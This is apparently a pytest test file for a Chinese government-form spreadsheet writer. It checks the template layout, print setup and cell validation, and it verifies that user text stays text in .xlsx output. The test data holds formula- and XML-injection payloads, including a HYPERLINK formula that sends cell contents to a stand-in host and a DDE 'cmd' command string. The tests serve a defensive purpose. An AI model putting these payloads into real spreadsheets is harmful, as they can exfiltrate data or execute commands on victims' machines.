"""The blank template: the official layout, A4 print setup, and an input column Excel guards."""

from __future__ import annotations

import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

import songnuan
from songnuan.formkit.definitions import ItemKind, get_form
from songnuan.formkit.excel_writer import (
    SAFE_WORKBOOK_OPTIONS,
    VALUE_COLUMN,
    ListWriter,
    new_workbook,
    write_form,
)


def template(code: str) -> Worksheet:
    buffer = io.BytesIO()
    write_form(get_form(code), buffer)
    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
    assert sheet is not None
    return sheet


@pytest.mark.parametrize("code", ["warmth-2018", "service-centres-2017"])
def test_layout_as_printed(code: str) -> None:
    form = get_form(code)
    sheet = template(code)
    texts = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
    assert texts[0] == f"{form.attachment}："
    assert form.title in texts
    for label in ("填报单位：", "填报人：", "电话：", "填报日期：", "编号", "合计"):
        assert label in texts
    for note in form.notes:
        assert any(note in text for text in texts)
    labels = [t for t in texts if any(t.startswith(item.label) for item in form.items)]
    assert len(labels) >= len(form.items)
    # 编号 is one merged cell per group of items
    merged_numbers = [r for r in sheet.merged_cells.ranges if r.min_col == 1 and r.max_col == 1]
    assert len(merged_numbers) == sum(1 for _n, items in form.groups() if len(items) > 1)


@pytest.mark.parametrize("code", ["warmth-2018", "service-centres-2017"])
def test_a4_print_setup(code: str) -> None:
    sheet = template(code)
    assert sheet.page_setup.paperSize == 9  # A4
    assert sheet.page_setup.orientation == "portrait"
    # one page wide by its zoom (fit-to-page would make Excel ignore the breaks between groups, see
    # tests/browser/test_print.py), as many pages tall as needed
    fit = sheet.sheet_properties.pageSetUpPr
    scale = sheet.page_setup.scale
    assert fit is not None and not fit.fitToPage and scale is not None and 80 <= scale < 100
    assert sheet.print_title_rows  # headings repeated on every page


@pytest.mark.parametrize("code", ["warmth-2018", "service-centres-2017"])
def test_only_the_values_can_be_typed_and_excel_checks_their_type(code: str) -> None:
    form = get_form(code)
    sheet = template(code)
    assert sheet.protection.sheet
    validations = {str(dv.sqref): dv for dv in sheet.data_validations.dataValidation}
    value_cells = [
        row[VALUE_COLUMN]
        for row in sheet.iter_rows()
        if any(str(c.value).startswith(form.items[0].label) for c in row)
    ]
    assert value_cells and not value_cells[0].protection.locked
    kinds = {"whole": 0, "decimal": 0, "list": 0}
    for dv in validations.values():
        kinds[dv.type] += 1
        if dv.type in ("whole", "decimal"):
            assert dv.operator == "greaterThanOrEqual" and dv.formula1 == "0"
        else:
            assert dv.formula1 == '"是,否"'
    expected = {ItemKind.COUNT: "whole", ItemKind.MONEY: "decimal", ItemKind.YES_NO: "list"}
    for kind, name in expected.items():
        assert kinds[name] == sum(1 for item in form.items if item.kind is kind)


# --- user text stays text: no formula, no address, no raw XML --------------------------------------------

#: What a hostile user types into a field that reaches a spreadsheet: formulas in every form Excel and WPS
#: accept (=, +, -, @, after a tab or a line break), an address, and the one shape XlsxWriter would copy into
#: the file as raw XML (`<r>…</r>`), here adding shared strings, so that every later cell would show another's
#: text. None longer than 50 characters: they fit every text field of the models.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此核对")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "\r\n=1+2",
    "=cmd|' /C calc'!A0",
    "http://evil.example/",
    "<r><t>a</t></r></si><si><r><t>b</t></r>",
]
#: The same raw-XML shape in a streamed sheet (inline strings): a formula cell added beside the text.
INLINE_XML = '<r><t>a</t></r></is></c><c r="Z1"><f>1+1</f></c><c t="inlineStr"><is><r><t>b</t></r>'

_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def _excel_text(raw: str) -> str:
    """A string of the file as Excel shows it: `_xHHHH_` is the character HHHH (`_x005F_` a literal `_`)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda match: chr(int(match.group(1), 16)), raw)


def _string_of(node: ElementTree.Element) -> str:
    return _excel_text("".join(t.text or "" for t in node.iter(f"{_MAIN}t")))


def read_cells(content: bytes) -> dict[str, dict[str, str]]:
    """Every sheet of an .xlsx, read from its XML as Excel would: sheet → cell → its text (numbers as they are
    stored). Fails if any cell holds a formula or the sheet a link, or if openpyxl reads any cell as a
    formula (a second reader)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
        shared: list[str] = []
        if "xl/sharedStrings.xml" in names:
            table = ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))
            shared = [_string_of(si) for si in table.iter(f"{_MAIN}si")]
        sheets: dict[str, dict[str, str]] = {}
        for name in sorted(n for n in names if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)):
            xml = archive.read(name)
            assert b"<f>" not in xml and b"<f " not in xml, f"a formula in {name}"
            assert b"<hyperlink " not in xml, f"a link in {name}"
            cells: dict[str, str] = {}
            for cell in ElementTree.fromstring(xml).iter(f"{_MAIN}c"):
                assert cell.find(f"{_MAIN}f") is None, cell.get("r")
                kind, value, inline = cell.get("t"), cell.find(f"{_MAIN}v"), cell.find(f"{_MAIN}is")
                if kind == "s" and value is not None:
                    cells[cell.get("r", "")] = shared[int(value.text or "")]
                elif kind == "inlineStr" and inline is not None:
                    cells[cell.get("r", "")] = _string_of(inline)
                elif value is not None:
                    cells[cell.get("r", "")] = value.text or ""
            sheets[name] = cells
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for each in row:
                assert each.data_type != "f", f"{sheet.title}!{each.coordinate} is a formula: {each.value!r}"
    return sheets


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_the_header_of_a_filled_table_stays_text(payload: str) -> None:
    buffer = io.BytesIO()
    header = {"unit": payload, "reporter": payload, "phone": payload, "date": payload}
    write_form(get_form("warmth-2018"), buffer, values={"1A": 3}, header=header)
    (cells,) = read_cells(buffer.getvalue()).values()
    # 填报单位 C3, 填报人 F3, 电话 C4, and a date that is not one (kept as the text it is) F4.
    assert (cells["C3"], cells["F3"], cells["C4"], cells["F4"]) == (payload,) * 4
    assert cells["A1"] == "附件1："  # the rest is as it was: labels …
    assert [ref for ref, text in cells.items() if ref.startswith("G") and text == "3"]  # … and numbers (1A)


@pytest.mark.parametrize("streamed", [False, True], ids=["in-memory", "streamed"])
def test_a_list_writes_every_text_as_text(tmp_path: Path, streamed: bool) -> None:
    texts = [*PAYLOADS, INLINE_XML]
    target: Path | io.BytesIO = tmp_path / "list.xlsx" if streamed else io.BytesIO()
    writer = ListWriter(target, title=texts[0], header=texts)
    writer.write([*texts[:-1], Decimal("2.5")])
    writer.write([7, True, *texts[2:]])
    writer.close()
    content = target.read_bytes() if isinstance(target, Path) else target.getvalue()
    (cells,) = read_cells(content).values()
    columns = [chr(ord("A") + n) for n in range(len(texts))]
    assert cells["A1"] == texts[0]
    assert [cells[f"{c}2"] for c in columns] == texts
    assert [cells[f"{c}3"] for c in columns] == [*texts[:-1], "2.5"]  # a number stays a number
    assert [cells[f"{c}4"] for c in columns[:2]] == ["7", "是"]
    assert [cells[f"{c}4"] for c in columns[2:]] == texts[2:]


def test_every_workbook_is_made_with_the_safe_options() -> None:
    """The belt under write_text: even `write` keeps a formula-looking string a string."""
    buffer = io.BytesIO()
    workbook = new_workbook(buffer)
    sheet = workbook.add_worksheet()
    sheet.write(0, 0, "=1+2")
    sheet.write(1, 0, "http://evil.example/")
    workbook.close()
    (cells,) = read_cells(buffer.getvalue()).values()
    assert cells == {"A1": "=1+2", "A2": "http://evil.example/"}
    assert SAFE_WORKBOOK_OPTIONS == {
        "strings_to_formulas": False,
        "strings_to_urls": False,
        "strings_to_numbers": False,
    }


def test_only_the_formkit_writer_makes_workbooks() -> None:
    """One place writes .xlsx (formkit.excel_writer): everything else goes through its helpers."""
    source = Path(songnuan.__file__).parent
    users = sorted(
        str(path.relative_to(source))
        for path in source.rglob("*.py")
        if "xlsxwriter" in path.read_text(encoding="utf-8")
    )
    assert users == ["formkit/excel_writer.py"]
